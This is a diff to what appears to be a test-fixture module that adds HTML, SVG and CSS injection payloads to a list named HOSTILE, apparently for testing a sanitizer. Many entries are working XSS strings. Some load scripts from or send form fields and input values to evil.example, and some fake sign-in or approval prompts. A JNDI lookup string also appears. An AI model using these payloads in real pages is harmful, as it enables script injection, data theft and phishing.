@@ -125,5 +125,82 @@ HEADERS = (
     "`reboot`",
     "${jndi:ldap://evil.example}",
 )
-HOSTILE = (*TAGS, *QUOTES, *TEMPLATES, *ADDRESSES, *UNSEEN, *HEADERS)
+HANDLERS = tuple(
+    f"<{tag} {event}={attack}>"
+    for tag, event in (
+        ("button", "onclick"), ("div", "onpointerenter"), ("select", "onchange"), ("dialog open", "oncancel"),
+        ("img src=x", "OnErRoR"), ("svg", "onbegin"), ("p tabindex=0", "onfocusin"),
+        ("input type=image src=x", "onload"), ("body", "onhashchange"), ("object data=x", "onerror"),
+        ("div popover", "onbeforetoggle"), ("textarea", "onbeforeinput"), ("form", "onformdata"),
+        ("div style=animation-name:x", "onanimationstart"), ("a href=#", "onauxclick"), ("video src=x", "onloadstart"),
+    )
+    for attack in ("top.x=1", "import('//evil.example/m.js')")
+)  # fmt: skip
+"""Handlers of events that fire with a click, with a key, with a movement, and with nothing."""
+CONTAINERS = (
+    "<textarea><img src=x onerror=top.x=1></textarea>",
+    "<title><img title='</title><img src=x onerror=top.x=1>'>",
+    "<svg><style><img src=x onerror=top.x=1></style></svg>",
+    "<svg><foreignObject><iframe src=javascript:top.x=1></iframe></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=a onload=top.x=1/>#a'></use></svg>",
+    "<svg><animate attributeName=href values=javascript:top.x=1 /><a><text>x</text></a></svg>",
+    "<svg><a xlink:href=javascript:top.x=1><text y=9>click</text></a></svg>",
+    "<math href=javascript:top.x=1>click</math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=top.x=1>",
+    "<table><td background=//evil.example/t>x</table>",
+    "<table><tr><td></form><form action=//evil.example/><input name=key>",
+    "<form id=say action=javascript:top.x=1></form><button form=say>Send</button>",
+    "<button formaction=//evil.example/>Approve</button>",
+    "<input type=hidden name=decision value=approve>",
+    "<input name=arguments value='{}'><input name=always value=yes checked>",
+    "<select><template shadowrootmode=open><script>top.x=1</script></template></select>",
+    "<template shadowrootmode=open><slot onslotchange=top.x=1></slot></template>",
+    "<iframe sandbox='allow-scripts allow-top-navigation' srcdoc='<a target=_top href=//evil.example>x</a>'>",
+    "<frameset onload=top.x=1><frame src=//evil.example></frameset>",
+    "<object type=text/html data='data:text/html,<script>parent.x=1</script>'></object>",
+    "<link rel=prefetch href=//evil.example/p><link rel=dns-prefetch href=//evil.example>",
+    "<link rel=preload as=script href=//evil.example/p.js>",
+    "<link rel=modulepreload href=//evil.example/m.js>",
+    "<link rel=icon href=//evil.example/i.png>",
+    "<link rel=manifest href=//evil.example/m.json>",
+    "<script type=speculationrules>{'prefetch':[{'urls':['//evil.example/']}]}</script>",
+    "<script type=importmap>{'imports':{'./pages.js':'//evil.example/p.js'}}</script>",
+    "<script nonce=x src=data:,top.x=1></script>",
+    "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
+    "<meta name=referrer content=unsafe-url>",
+    "<meta http-equiv=set-cookie content='console-theme=dark'>",
+    "<img srcset='//evil.example/1 1x, //evil.example/2 2x'>",
+    "<picture><source srcset=//evil.example/s><img src=x></picture>",
+    "<img loading=eager src=//evil.example/p referrerpolicy=unsafe-url>",
+    "<video poster=//evil.example/p></video><track src=//evil.example/t>",
+    "<a ping=//evil.example/ping href=#main>click</a>",
+    "<a download=x.exe href=data:application/x-msdownload,x>click</a>",
+    "<a id=main></a><a name=slider></a>",
+    "<div id=talk></div><div id=status role=alert>Signed out. Your key?</div>",
+    "<img name=getElementById><form name=cookie></form>",
+    "<details open><summary>Approve</summary></details>",
+    "<h1>Sign in</h1><label>Key <input name=key></label>",
+    "<dialog open><form method=dialog><button>Approve all</button></form></dialog>",
+    "<div contenteditable autofocus onfocus=top.x=1>",
+    "<x is=x-y><slot name=x>",
+    "<br/><hr/><center><font size=99 color=red>HUGE",
+    "<!DOCTYPE html><html lang=xx><body class=owned>",
+    "<!-- a comment that never ends",
+    "<? xml-stylesheet href='//evil.example/x.xsl' ?>",
+    "<![endif]--><![if IE]><script>top.x=1</script>",
+)
+STYLES = (
+    "</style><style>body{display:none}</style>",
+    "<style>*{background:url(//evil.example/k)}</style>",
+    "<style>input[value^='e']{background:url(//evil.example/e)}</style>",
+    "<div style='position:fixed;inset:0;background:#fff;z-index:9'>Loading</div>",
+    "<p style='font-size:1px;color:transparent'>hidden instruction</p>",
+    "{} * { content: url(//evil.example/c) }",
+    "<link rel=stylesheet href=data:text/css,*{display:none}>",
+    "<div class='skip hidden'>Loaded</div>",
+    "<style>@container style(--x){*{background:url(//evil.example/q)}}</style>",
+    "expression(top.x=1)",
+    "@font-face{font-family:x;src:url(//evil.example/f)}",
+)
+HOSTILE = (*TAGS, *QUOTES, *TEMPLATES, *ADDRESSES, *UNSEEN, *HEADERS, *HANDLERS, *CONTAINERS, *STYLES)
 """All of them."""
